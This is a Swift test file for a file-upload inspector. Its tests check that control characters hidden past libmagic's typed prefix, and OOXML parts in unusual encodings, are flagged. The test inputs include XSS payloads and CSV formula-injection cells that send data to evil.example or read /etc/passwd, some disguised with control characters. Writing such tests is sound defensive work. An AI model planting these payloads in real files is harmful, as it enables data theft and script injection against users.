import AirlockCore
import Foundation
import Testing

@testable import Inspection

/// Attack round 8 on inspection: control characters that consumers delete, past the 256 KiB libmagic types.
struct Round8Tests {
    let profile = UploadProfile(
        name: "documents",
        maxSize: 16 << 20,
        allow: [
            .init(extensions: ["txt"], types: ["text/plain"]), .init(extensions: ["csv"], types: ["text/csv", "text/plain"]),
            .init(extensions: ["md"], types: ["text/markdown", "text/plain"]), .init(extensions: ["svg"], types: ["image/svg+xml"]),
        ]
    )

    func inspect(_ bytes: [UInt8], name: String) async throws -> Verdict {
        let inspector = Inspector(
            magic: try MagicDetector(),
            scanner: try ClamAVEngine(database: InspectorTests.database, limits: ScanLimits()),
            threads: 1
        )
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("airlock-round8-\(UUID().uuidString)").path
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        defer { try? FileManager.default.removeItem(atPath: path) }
        return await inspector.inspect(InspectionRequest(path: path, filename: name, profile: profile))
    }

    /// Ordinary text, then (past libmagic's 256 KiB) the line with the control character.
    static func padded(_ tail: String, rows: Bool = false) -> [UInt8] {
        let line = rows ? "item,4,12.50\n" : "An ordinary paragraph of notes about the quarterly plan, nothing more.\n"
        return Array((String(repeating: line, count: (300 << 10) / line.utf8.count) + tail).utf8)
    }

    /// Python-Markdown deletes STX and ETX before anything else: `` `\u{02}` `` closes the fence, `<scr\u{03}ipt>` is a
    /// script. LibreOffice's CSV import drops NUL: `=WEBSERVICE\u{00}(` is a call, `\u{00}=` a formula cell.
    @Test(arguments: [
        ("notes.md", "```js\nconst a = 1;\n``\u{02}`\n<img src=\"x\" onerror=\"alert(1)\">\n```\n", false),
        ("notes.md", "<scr\u{03}ipt>alert(1)</scr\u{03}ipt>\n", false),
        ("notes.txt", "<ifr\u{02}ame src=https://evil.example/>\n", false),
        ("data.csv", "secret,=WEBSERVICE\u{00}(\"https://evil.example/?\"&A1)\n", true),
        ("data.csv", "secret,\u{00}=WEBSERVICE(\"https://evil.example/?\"&A1)\n", true),
        ("data.csv", "x,='file:///etc/passwd'\u{00}#$passwd.A1\n", true),
        ("notes.txt", "bell\u{07}\n", false), ("notes.txt", "backspace\u{08}\n", false), ("notes.txt", "separator\u{1F}\n", false),
        ("notes.txt", "delete\u{7F}\n", false),
    ])
    func aControlCharacterPastTheTypedPrefixIsATypeMismatch(_ name: String, _ tail: String, _ rows: Bool) async throws {
        let verdict = try await inspect(Self.padded(tail, rows: rows), name: name)
        #expect(verdict.outcome != .clean, "\(name): \(verdict)")
        #expect(verdict.reasons.contains { $0.code == .typeMismatch && $0.detail.contains("control character") }, "\(verdict.reasons)")
    }

    /// Tabs, form feeds, CRLF, terminal colours and FileMaker's vertical-tab line breaks in CSV fields are text.
    @Test func textWithTabsFormFeedsAndColoursStaysClean() async throws {
        let verdict = try await inspect(Self.padded("a\tb\r\n\u{0C}\n\u{1B}[31merror\u{1B}[0m: build failed\nline\u{0B}break\n"), name: "build.txt")
        #expect(verdict.outcome == .clean, "\(verdict)")
    }

    @Test func markupWithAControlCharacterIsATypeMismatch() async throws {
        let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>a\u{02}b</text></svg>\n"
        #expect(Inspector.markupFindings(in: Array(svg.utf8)).isEmpty)
        #expect(Inspector.notTextThroughout(Array(svg.utf8))?.code == .typeMismatch)
    }
}

/// OOXML parts are UTF-8 or UTF-16 (ECMA-376 Part 2): a part in another encoding is read differently by Office or
/// LibreOffice, which honour its declaration (attack round 8: ISO-2022-JP and UTF-7 sheets, an EBCDIC part).
struct Round8OOXMLEncodingTests {
    static let sheet = "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData/></worksheet>"

    @Test(arguments: [
        Array("<?xml version=\"1.0\" encoding=\"ISO-2022-JP\"?>\(sheet)".utf8),
        Array("<?xml version=\"1.0\" encoding=\"UTF-7\"?>\(sheet)".utf8),
        Array("<?xml version='1.0' encoding='iso-8859-1'?>\(sheet)".utf8),
        Array("<?xml version=\"1.0\"?><x:f>_xlfn.WEB\u{1B}(BSERVICE(1)</x:f>".utf8),
        // "<?xml" in EBCDIC (cp037), then anything.
        [0x4C, 0x6F, 0xA7, 0x94, 0x93, 0x40, 0xA5, 0x85, 0x99, 0xA2, 0x89, 0x96, 0x95],
    ])
    func aPartInAnotherEncodingIsFound(_ part: [UInt8]) {
        let findings = OOXMLParts.findings(partName: "xl/worksheets/sheet1.xml", bytes: part)
        #expect(!findings.isEmpty, "\(part)")
    }

    @Test func utf8AndUTF16PartsStayClean() {
        let declared = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n\(Self.sheet)"
        #expect(OOXMLParts.findings(partName: "xl/worksheets/sheet1.xml", bytes: Array(declared.utf8)).isEmpty)
        var utf16: [UInt8] = [0xFF, 0xFE]
        for unit in declared.replacingOccurrences(of: "UTF-8", with: "UTF-16").utf16 { utf16 += [UInt8(unit & 0xFF), UInt8(unit >> 8)] }
        #expect(OOXMLParts.findings(partName: "xl/worksheets/sheet1.xml", bytes: utf16).isEmpty)
        #expect(OOXMLParts.findings(partName: "xl/worksheets/sheet1.xml", bytes: Array(("\n  \t" + Self.sheet).utf8)).isEmpty)
    }
}
